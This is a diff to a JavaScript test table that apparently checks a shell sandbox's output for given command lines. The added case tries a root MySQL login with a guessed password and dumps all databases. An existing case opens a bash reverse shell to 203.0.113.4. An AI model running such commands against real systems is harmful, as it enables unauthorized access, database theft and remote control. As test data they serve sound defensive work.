@@ -32,6 +32,14 @@ it.each([
     stderr: 'bash: line 1: /nope/b: No such file or directory\n',
   },
   {
+    line: 'mysql -u root -psecret; echo $?; mysqldump --all-databases; nginx -v; psql',
+    stdout: '1\n',
+    stderr:
+      "ERROR 1045 (28000): Access denied for user 'root'@'localhost' (using password: YES)\n" +
+      "mysqldump: Got error: 1045: Access denied for user 'root'@'localhost' (using password: NO) when trying to connect\n" +
+      'nginx version: nginx/1.18.0 (Ubuntu)\nbash: line 1: psql: command not found\n',
+  },
+  {
     line: 'bash -i >& /dev/tcp/203.0.113.4/80 0>&1; echo $?',
     stdout: '1\n',
     stderr: 'bash: connect: No route to host\nbash: line 1: /dev/tcp/203.0.113.4/80: No route to host\n',
